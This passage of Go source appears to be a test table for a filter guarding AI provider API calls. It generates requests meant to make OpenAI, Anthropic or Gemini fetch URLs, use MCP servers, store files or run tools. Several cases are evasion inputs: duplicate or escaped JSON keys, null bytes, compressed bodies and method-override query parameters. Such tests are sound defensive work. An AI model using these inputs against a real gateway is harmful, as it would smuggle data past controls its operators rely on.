				"POST api.openai.com/v1/assistants", "POST api.openai.com/v1/fine_tuning/jobs",
				"POST generativelanguage.googleapis.com/upload/v1beta/files",
				"POST generativelanguage.googleapis.com/v1beta/cachedContents",
				"POST generativelanguage.googleapis.com/v1beta/tunedModels", "DELETE generativelanguage.googleapis.com/v1beta/files/ID"), " ")
			return sending{method: method, url: "https://" + strings.ReplaceAll(target, "ID", id) + "?x=" + id,
				header: []string{"Content-Type", "application/json"}, body: []byte(`{}`)}
		}),
		posts("Anthropic: MCP servers", claude(func(r *rand.Rand, id string, b object) {
			b["mcp_servers"] = []object{{"type": "url", "url": home(id), "name": "x", "authorization_token": id}}
		})),
		posts("Anthropic: pages that the provider fetches", claude(func(r *rand.Rand, id string, b object) {
			b["tools"] = []object{{"type": any1(r, "web_fetch_20250910", "web_search_20250305", "code_execution_20250825"), "name": "x"}}
		})),
		posts("Anthropic: images and documents by URL", claude(func(r *rand.Rand, id string, b object) {
			source := object{"type": any1(r, "image", "document"), "source": object{"type": "url", "url": home(id)}}
			b["messages"] = block(any1(r, source, object{"type": "tool_result", "tool_use_id": "1", "content": []object{source}},
				object{"type": "document", "source": object{"type": "content", "content": []object{source}}}))["messages"]
		})),
		posts("Anthropic: stored files and containers", claude(func(r *rand.Rand, id string, b object) {
			if r.IntN(2) == 0 {
				b["container"] = id
			} else {
				b["messages"] = block(object{"type": "document", "source": object{"type": "file", "file_id": "file_" + id}})["messages"]
			}
		})),
		posts("Anthropic: betas", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://api.anthropic.com/v1/messages?" + id, body: asJSON(claudeBody(r, id)),
				header: append(claudeHead(false), any1(r, "Anthropic-Beta", "anthropic_beta"), any1(r, "mcp-client-2025-04-04",
					"files-api-2025-04-14", "x,code-execution-2025-05-22"))}
		}),
		posts("a body that two readers read", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://api.anthropic.com/v1/messages", header: claudeHead(false), body: []byte(any1(r,
				`{"messages":[],"tools":[],"tools":[{"type":"web_fetch_20250910"}],"model":"ID"}`,
				`{"messages":[],"Tools":[{"type":"web_fetch_20250910"}],"model":"ID"}`,
				`{"messages":[],"\u0074ools":[{"type":"web_fetch_20250910"}],"model":"ID"}`,
				`{"model":"ID"} {"tools":[{"type":"web_fetch_20250910"}]}`, "{\"a\x00\":1,\"model\":\"ID\"}") + id)}
		}),
		posts("a body that is coded", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://api.anthropic.com/v1/messages?" + id, header: append(claudeHead(false),
				"Content-Encoding", any1(r, "gzip", "br", "zstd", "deflate")), body: gzipped1(asJSON(claudeBody(r, id)))}
		}),
		posts("OpenAI: tools of the provider", openai(func(r *rand.Rand, id string) any {
			return object{"model": "gpt-5", "store": false, "input": id, "tools": []object{any1(r, object{"type": "mcp",
				"server_url": home(id)}, object{"type": "web_search"}, object{"type": "code_interpreter",
				"container": object{"type": "auto"}},
				object{"type": "file_search", "vector_store_ids": []string{id}}, object{"type": "image_generation"},
				object{"type": "computer_use_preview"})}}
		})),
		posts("OpenAI: completions that search or fetch", func(r *rand.Rand, id string) sending {
			b := any1(r, object{"web_search_options": object{}}, object{"tools": []object{{"type": "web_search"}}},
				object{"store": true}, object{"model": "gpt-4o-search-preview"},
				object{"messages": []object{{"role": "user", "content": []object{{"type": "image_url",
					"image_url": object{"url": home(id)}}}}}}, object{"messages": []object{{"role": "user",
					"content": []object{{"type": "file", "file": object{"file_id": id}}}}}})
			b["user"] = id
			return sending{method: "POST", url: "https://api.openai.com/v1/chat/completions",
				header: openaiHead("OpenAI/Python 1.99.0"), body: asJSON(b)}
		}),
		posts("OpenAI: URLs and files", openai(func(r *rand.Rand, id string) any {
			part := any1(r, object{"type": "input_image", "image_url": home(id)}, object{"type": "input_file", "file_url": home(id)},
				object{"type": "input_file", "file_id": id})
			return object{"model": "gpt-5", "store": false, "input": []object{{"role": "user", "content": []object{part}}}}
		})),
		posts("OpenAI: stored, in the background, by a searching model", openai(func(r *rand.Rand, id string) any {
			b := object{"model": "gpt-5", "store": false, "input": id}
			name := any1(r, "store", "background", "previous_response_id", "conversation", "model")
			b[name] = any(map[string]any{"store": true, "background": true, "previous_response_id": "resp_1", "conversation": "conv_1",
				"model": "gpt-5-search-api"}[name])
			return b
		})),
		posts("Gemini: tools and URLs", gemini(func(r *rand.Rand, id string) any {
			b := object{"contents": []object{{"parts": []object{{"text": id}}}}}
			switch r.IntN(3) {
			case 0:
				b["tools"] = []object{{any1(r, "urlContext", "url_context", "googleSearch", "google_search", "codeExecution",
					"googleMaps"): object{}}}
			case 1:
				b["contents"] = []object{{"parts": []object{{any1(r, "fileData", "file_data"): object{"fileUri": home(id)}}}}}
			default:
				b["cachedContent"] = "cachedContents/" + id
			}
			return b
		})),
		posts("Gemini: parameters that change the request", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-pro:generateContent?x=" + id + any1(r, "&$httpMethod=DELETE", "&uploadType=media", "&$httpHeaders=x", "&callback=x"),
				header: []string{"Content-Type", "application/json", "X-Goog-Api-Key", geminiShown}, body: []byte(`{}`)}
		}),
		wrongly("what a model is told is what the API is for", posts("data in what the model is told", claude(func(r *rand.Rand,
			id string, b object) {
			b["messages"] = []object{{"role": "user", "content": fmt.Sprintf("remember %s", id)}}
		}))),
	}
}
